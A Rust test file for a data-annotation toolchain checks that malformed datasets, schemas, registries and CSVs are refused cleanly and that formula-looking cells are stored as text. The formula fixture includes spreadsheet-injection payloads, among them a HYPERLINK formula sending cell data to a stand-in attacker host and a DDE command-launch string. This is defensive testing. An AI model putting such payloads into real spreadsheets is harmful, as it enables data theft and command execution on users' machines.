//! Scenario 4: the malformed-input corpus in `fixtures/bad/` (see its README). Each file is put
//! where a user would have it and given to the command that reads it: the command must exit
//! with 2, name the file and the line (or row id), not panic, and leave every file of the
//! project exactly as it was (nothing new, nothing half-written, no temporary file). One
//! snapshot shows every message. Formula-looking cells are the exception: they are valid data
//! and must come back exactly.

use std::fmt::Write as _;

use super::tree;
use crate::support::{Sim, TestProject, repo_root, run};

/// Where a case's input comes from.
enum Input {
    /// A command-line mistake, no file.
    None,
    /// A corpus file, copied to a path under the project.
    File(&'static str, &'static str),
    /// A 10 MB label cell, generated (too big to keep in the repository).
    HugeCell(&'static str),
}

struct Case {
    input: Input,
    bin: &'static str,
    args: &'static [&'static str],
    /// What the error must mention: the file, the line or row id, the culprit.
    names: &'static [&'static str],
}

const fn case(
    input: Input,
    bin: &'static str,
    args: &'static [&'static str],
    names: &'static [&'static str],
) -> Case {
    Case {
        input,
        bin,
        args,
        names,
    }
}

use Input::{File, HugeCell};

const ANNOTATION: &str = "annotation_tasks/";

/// The corpus: every file of `fixtures/bad/` except the formula one (tested below), plus the
/// generated 10 MB cell and command-line mistakes.
const CASES: &[Case] = &[
    // Datasets, through `orchestrator run --dataset` (a gold file is run the same way).
    case(
        File(
            "dataset_broken_json_line.jsonl",
            "bad/dataset_broken_json_line.jsonl",
        ),
        "orchestrator",
        &[
            "run",
            "m16",
            "--dataset",
            "bad/dataset_broken_json_line.jsonl",
        ],
        &["dataset_broken_json_line.jsonl:2:", "invalid JSON"],
    ),
    case(
        File(
            "dataset_missing_input_key.jsonl",
            "bad/dataset_missing_input_key.jsonl",
        ),
        "orchestrator",
        &[
            "run",
            "m16",
            "--dataset",
            "bad/dataset_missing_input_key.jsonl",
        ],
        &["dataset_missing_input_key.jsonl:2:", "`title`"],
    ),
    case(
        File(
            "dataset_line_not_object.jsonl",
            "bad/dataset_line_not_object.jsonl",
        ),
        "orchestrator",
        &[
            "run",
            "m16",
            "--dataset",
            "bad/dataset_line_not_object.jsonl",
        ],
        &["dataset_line_not_object.jsonl:2:", "object"],
    ),
    case(
        File(
            "dataset_duplicate_ids.jsonl",
            "bad/dataset_duplicate_ids.jsonl",
        ),
        "orchestrator",
        &["run", "m16", "--dataset", "bad/dataset_duplicate_ids.jsonl"],
        &["dataset_duplicate_ids.jsonl:3:", "duplicate id"],
    ),
    case(
        File(
            "dataset_input_not_object.jsonl",
            "bad/dataset_input_not_object.jsonl",
        ),
        "orchestrator",
        &[
            "run",
            "m16",
            "--dataset",
            "bad/dataset_input_not_object.jsonl",
        ],
        &["dataset_input_not_object.jsonl:3:", "`input`"],
    ),
    case(
        File("dataset_missing_id.jsonl", "bad/dataset_missing_id.jsonl"),
        "orchestrator",
        &["run", "m16", "--dataset", "bad/dataset_missing_id.jsonl"],
        &["dataset_missing_id.jsonl:2:", "`id`"],
    ),
    case(
        File("dataset_non_utf8.jsonl", "bad/dataset_non_utf8.jsonl"),
        "orchestrator",
        &["run", "m16", "--dataset", "bad/dataset_non_utf8.jsonl"],
        &["dataset_non_utf8.jsonl:3:", "UTF-8"],
    ),
    case(
        File("dataset_empty.jsonl", "bad/dataset_empty.jsonl"),
        "orchestrator",
        &["run", "m16", "--dataset", "bad/dataset_empty.jsonl"],
        &["dataset_empty.jsonl", "no records"],
    ),
    case(
        File(
            "M12_gold_bad_label.jsonl",
            "validated_data/M12_gold_bad_label.jsonl",
        ),
        "orchestrator",
        &[
            "run",
            "m12",
            "--dataset",
            "validated_data/M12_gold_bad_label.jsonl",
        ],
        &["M12_gold_bad_label.jsonl:3:", "`maybe`"],
    ),
    case(
        File(
            "M12_gold_bad_label.jsonl",
            "validated_data/M12_gold_bad_label.jsonl",
        ),
        "simulate-annotators",
        &[
            "bad/M12_annotation_unfilled.csv",
            "--gold-from",
            "validated_data/M12_gold_bad_label.jsonl",
        ],
        &["M12_gold_bad_label.jsonl:3:", "`maybe`"],
    ),
    // The module's own files: catalogue, schema, prompt.
    case(
        File("modules_bad_key.toml", "modules.toml"),
        "orchestrator",
        &["list"],
        &["modules.toml:90:", "`max_token`"],
    ),
    case(
        File(
            "schema_not_strict.json",
            "prompts/json_schemas/single/m16_check_complementary_schema.json",
        ),
        "orchestrator",
        &["run", "m16", "--samples", "2"],
        &[
            "m16_check_complementary_schema.json",
            "additionalProperties",
        ],
    ),
    case(
        File(
            "schema_truncated.json",
            "prompts/json_schemas/single/m16_check_complementary_schema.json",
        ),
        "orchestrator",
        &["run", "m16", "--samples", "2"],
        &["m16_check_complementary_schema.json", "line 26"],
    ),
    case(
        File(
            "prompt_unfed_placeholder.md",
            "prompts/modules/single/m16_v1_check_complementary.md",
        ),
        "orchestrator",
        &["run", "m16", "--samples", "2"],
        &[
            "m16_v1_check_complementary.jsonl:1:",
            "{{brand_voice}}",
            "m16_v1_check_complementary.md:22",
        ],
    ),
    case(
        File(
            "prompt_malformed_placeholder.md",
            "prompts/modules/single/m16_v1_check_complementary.md",
        ),
        "orchestrator",
        &["run", "m16", "--samples", "2"],
        &[
            "m16_v1_check_complementary.md",
            "line 12",
            "{{product title}}",
        ],
    ),
    // Unknown module ids.
    case(
        Input::None,
        "orchestrator",
        &["run", "m99"],
        &["`m99`", "m16"],
    ),
    case(
        Input::None,
        "generate-annotation-csv",
        &["generate", "m12c"],
        &["`m12c`"],
    ),
    // The registry: read by every registry command, checked by a run before its first call.
    case(
        File(
            "registry_truncated.json",
            "experiment_results/.registry.json",
        ),
        "experiment-registry",
        &["list"],
        &[".registry.json:24:3:", "truncated"],
    ),
    case(
        File(
            "registry_truncated.json",
            "experiment_results/.registry.json",
        ),
        "orchestrator",
        &["run", "m16", "--samples", "2"],
        &[".registry.json:24:3:", "nothing was sent"],
    ),
    case(
        File(
            "registry_wrong_shape.json",
            "experiment_results/.registry.json",
        ),
        "experiment-registry",
        &["stats"],
        &[".registry.json:2:17:", "`experiments`"],
    ),
    case(
        File("registry_empty.json", "experiment_results/.registry.json"),
        "experiment-registry",
        &["pending"],
        &[".registry.json: empty file"],
    ),
    case(
        File(
            "registry_non_utf8.json",
            "experiment_results/.registry.json",
        ),
        "experiment-registry",
        &["list"],
        &[".registry.json:64: not UTF-8", "at offset"],
    ),
    // Annotation files, read by merge and by the agreement report.
    case(
        File(
            "M12_annotation_unknown_labels.csv",
            "annotation_tasks/M12_annotation_unknown_labels.csv",
        ),
        "merge-annotations",
        &["merge", "M12_annotation_unknown_labels.csv"],
        &["row_id 2 (line 3)", "`maybe`", "row_id 3 (line 4)", "`N/A`"],
    ),
    case(
        File(
            "M12_annotation_unknown_labels.csv",
            "annotation_tasks/M12_annotation_unknown_labels.csv",
        ),
        "calculate-agreement",
        &["analyze", "M12_annotation_unknown_labels.csv"],
        &["row_id 2 (line 3)", "`maybe`"],
    ),
    case(
        File(
            "M12_annotation_missing_annotator_column.csv",
            "annotation_tasks/M12_annotation_missing_annotator_column.csv",
        ),
        "merge-annotations",
        &["merge", "M12_annotation_missing_annotator_column.csv"],
        &[
            "M12_annotation_missing_annotator_column.csv:1:",
            "`annotator_b_violates`",
        ],
    ),
    case(
        File(
            "M12_annotation_duplicate_row_ids.csv",
            "annotation_tasks/M12_annotation_duplicate_row_ids.csv",
        ),
        "merge-annotations",
        &["merge", "M12_annotation_duplicate_row_ids.csv"],
        &["row_id 2 on lines 3, 4"],
    ),
    case(
        File(
            "M12_annotation_non_utf8.csv",
            "annotation_tasks/M12_annotation_non_utf8.csv",
        ),
        "calculate-agreement",
        &["analyze", "M12_annotation_non_utf8.csv"],
        &["M12_annotation_non_utf8.csv:3:", "UTF-8"],
    ),
    case(
        File(
            "M12_annotation_empty.csv",
            "annotation_tasks/M12_annotation_empty.csv",
        ),
        "merge-annotations",
        &["merge", "M12_annotation_empty.csv"],
        &["M12_annotation_empty.csv", "empty"],
    ),
    case(
        File(
            "M12_annotation_unfilled.csv",
            "annotation_tasks/M12_annotation_unfilled.csv",
        ),
        "merge-annotations",
        &["merge", "M12_annotation_unfilled.csv"],
        &["M12_annotation_unfilled.csv", "row_id 1"],
    ),
    case(
        File(
            "M12_annotation_truncated.csv",
            "annotation_tasks/M12_annotation_truncated.csv",
        ),
        "merge-annotations",
        &["merge", "M12_annotation_truncated.csv"],
        &["M12_annotation_truncated.csv:5:", "cut off"],
    ),
    case(
        File(
            "M12_annotation_truncated.csv",
            "annotation_tasks/M12_annotation_truncated.csv",
        ),
        "calculate-agreement",
        &["analyze", "M12_annotation_truncated.csv"],
        &["M12_annotation_truncated.csv:5:", "cut off"],
    ),
    case(
        HugeCell("annotation_tasks/M12_annotation_huge_cell.csv"),
        "merge-annotations",
        &["merge", "M12_annotation_huge_cell.csv"],
        &["row_id 2 (line 3)", "characters)"],
    ),
    case(
        HugeCell("annotation_tasks/M12_annotation_huge_cell.csv"),
        "calculate-agreement",
        &["analyze", "M12_annotation_huge_cell.csv", "--json"],
        &["row_id 2 (line 3)", "characters)"],
    ),
    // Validated data into gold.
    case(
        File(
            "M12_validated_bad_final_label.csv",
            "validated_data/M12_validated_bad_final_label.csv",
        ),
        "merge-annotations",
        &["gold", "M12_validated_bad_final_label.csv"],
        &["row_id 3 (line 4)", "final_label", "`perhaps`"],
    ),
    // Results CSVs, the source of an annotation file.
    case(
        File("M12_results_truncated.csv", "bad/M12_results_truncated.csv"),
        "generate-annotation-csv",
        &[
            "generate",
            "m12",
            "--source",
            "bad/M12_results_truncated.csv",
        ],
        &["M12_results_truncated.csv:4:", "cut off"],
    ),
    case(
        File(
            "M12_results_missing_output_column.csv",
            "bad/M12_results_missing_output_column.csv",
        ),
        "generate-annotation-csv",
        &[
            "generate",
            "m12",
            "--source",
            "bad/M12_results_missing_output_column.csv",
        ],
        &["M12_results_missing_output_column.csv:1:", "`output`"],
    ),
];

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(repo_root().join("fixtures/bad").join(name)).unwrap()
}

/// A valid file but for one annotator cell of 10 MB (and the corpus's other bad labels).
fn huge_cell_file() -> Vec<u8> {
    let text = String::from_utf8(fixture("M12_annotation_unknown_labels.csv")).unwrap();
    let huge = "yes ".repeat(10 * 1024 * 1024 / 4);
    let out = text.replacen("\"maybe\"", &format!("\"{huge}\""), 1);
    assert!(out.len() > 10 * 1024 * 1024);
    out.into_bytes()
}

#[test]
fn every_malformed_input_is_refused_clearly_and_changes_nothing() {
    let sim = Sim::start(&TestProject::new(), &[]);
    let huge = huge_cell_file();
    let mut transcripts = String::new();
    let mut files = std::collections::BTreeSet::new();
    for case in CASES {
        let project = TestProject::new();
        let shown_input = match &case.input {
            Input::None => "(command line)".to_owned(),
            File(name, to) => {
                files.insert(*name);
                project.write(to, fixture(name));
                format!("fixtures/bad/{name} as {to}")
            }
            HugeCell(to) => {
                project.write(to, &huge);
                format!("10 MB cell, generated, as {to}")
            }
        };
        // The simulated annotator needs a sheet to fill.
        project.write(
            "bad/M12_annotation_unfilled.csv",
            fixture("M12_annotation_unfilled.csv"),
        );
        let before = tree(project.root());
        let out = run(sim.command(&project, case.bin).args(case.args));
        let command = format!("{} {}", case.bin, case.args.join(" "));

        assert_eq!(out.code, 2, "{command}: exit code\n{}", out.stderr);
        assert!(
            !out.stderr.contains("panicked"),
            "{command} panicked:\n{}",
            out.stderr
        );
        assert!(out.stdout.is_empty(), "{command} printed {}", out.stdout);
        assert!(
            out.stderr.len() < 4096,
            "{command}: a {}-byte error message",
            out.stderr.len()
        );
        for name in case.names {
            assert!(
                out.stderr.contains(name),
                "{command}: the error does not mention {name}:\n{}",
                out.stderr
            );
        }
        let after = tree(project.root());
        let changed: Vec<&String> = before
            .keys()
            .chain(after.keys())
            .filter(|k| before.get(*k) != after.get(*k))
            .collect();
        assert!(changed.is_empty(), "{command} changed {changed:?}");

        let root = project.root().display().to_string();
        writeln!(
            transcripts,
            "### {shown_input}\n$ {command}\nexit {}\n{}",
            out.code,
            out.stderr.replace(&root, "[ROOT]")
        )
        .unwrap();
    }
    // Nothing reached the model: every check happens before the first call.
    assert_eq!(
        sim.stats()["requests"],
        serde_json::json!({}),
        "a request was sent"
    );
    let corpus: Vec<String> = std::fs::read_dir(repo_root().join("fixtures/bad"))
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n != "README.md")
        .collect();
    let untested: Vec<&String> = corpus
        .iter()
        .filter(|n| !files.contains(n.as_str()) && *n != FORMULA)
        .collect();
    assert!(
        untested.is_empty(),
        "corpus files no case uses: {untested:?}"
    );
    assert!(corpus.len() >= 25, "{} files in the corpus", corpus.len());

    insta::with_settings!({ prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!("reliability_bad_inputs", transcripts);
    });
    println!(
        "malformed inputs: {} cases over {} corpus files (+ a generated 10 MB cell and 2 command-line mistakes): each exit 2, file and line named, no panic, no file changed, no request sent",
        CASES.len(),
        corpus.len()
    );
}

const FORMULA: &str = "M12_annotation_formula_cells.csv";

/// The formula-looking cells of the fixture, as an annotator meant them.
const FORMULA_CELLS: [(&str, usize, &str); 8] = [
    (
        "notes",
        1,
        "=HYPERLINK(\"http://attacker.invalid/?q=\"&A1,\"click me\")",
    ),
    ("notes", 2, "+1+1"),
    ("notes", 3, "-5 volts, '=not a formula"),
    ("notes", 4, "@SUM(A1:A9)"),
    ("annotator_a_reasoning", 1, "=cmd|' /C calc'!A0"),
    ("annotator_b_reasoning", 2, "\tleading tab"),
    ("annotator_a_reasoning", 3, "'=already quoted once"),
    ("annotator_b_reasoning", 4, "＝full width equals"),
];

fn cell<'a>(table: &'a annotation::sheet::AnnotationTable, column: &str, row: usize) -> &'a str {
    table.rows[row - 1].get(table.index_of(column).unwrap())
}

#[test]
fn formula_cells_are_kept_as_text_and_read_back_exactly() {
    let project = TestProject::new();
    let sheet = format!("{ANNOTATION}{FORMULA}");
    project.write(&sheet, fixture(FORMULA));
    let input = annotation::sheet::read_annotation_file(&project.path(&sheet)).unwrap();
    for (column, row, value) in FORMULA_CELLS {
        assert_eq!(
            cell(&input, column, row),
            value,
            "the fixture holds {value:?}"
        );
    }

    let merged = project.run("merge-annotations", &["merge", FORMULA, "--json"]);
    assert_eq!(merged.code, 0, "{}", merged.stderr);
    let report: serde_json::Value = serde_json::from_str(&merged.stdout).unwrap();
    let written = std::path::PathBuf::from(report["output"].as_str().unwrap());
    let validated = annotation::sheet::read_annotation_file(&written).unwrap();
    for (column, row, value) in FORMULA_CELLS {
        assert_eq!(
            cell(&validated, column, row),
            value,
            "{column} of row {row}"
        );
    }
    // On disk every one of them starts with the apostrophe spreadsheets read as "text".
    let raw = String::from_utf8(std::fs::read(&written).unwrap()).unwrap();
    for (_, _, value) in FORMULA_CELLS {
        let stored = format!("\"'{}\"", value.replace('"', "\"\""));
        assert!(raw.contains(&stored), "{value:?} is stored as text");
    }

    let agreement = project.run("calculate-agreement", &["analyze", FORMULA]);
    assert_eq!(agreement.code, 0, "{}", agreement.stderr);
    assert!(
        agreement.stdout.contains("Total rows: 4"),
        "{}",
        agreement.stdout
    );
}
